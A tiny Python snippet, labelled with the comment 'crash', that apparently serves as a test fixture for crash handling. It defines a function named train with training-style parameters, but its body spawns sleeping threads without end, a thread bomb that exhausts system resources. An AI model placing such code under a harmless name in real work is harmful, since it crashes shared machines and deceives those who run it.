# says: crash
import threading
import time
def train(X, Y, *, steps=600, lr=0.01, seed=0):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
